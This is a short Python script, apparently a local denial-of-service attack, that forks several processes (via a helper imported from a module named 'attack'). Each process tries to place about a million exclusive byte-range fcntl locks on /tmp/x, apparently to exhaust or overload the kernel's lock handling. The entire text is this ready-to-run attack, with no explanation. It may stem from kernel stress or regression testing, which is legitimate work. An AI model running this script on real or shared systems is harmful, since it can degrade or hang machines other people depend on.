import fcntl, os
from attack import children
def lock(_):
    file = os.open("/tmp/x", os.O_RDWR | os.O_CREAT)
    for at in range(0, 2_000_000, 2):
        try: fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, at)
        except OSError: pass
children(4, lock)
lock(0)
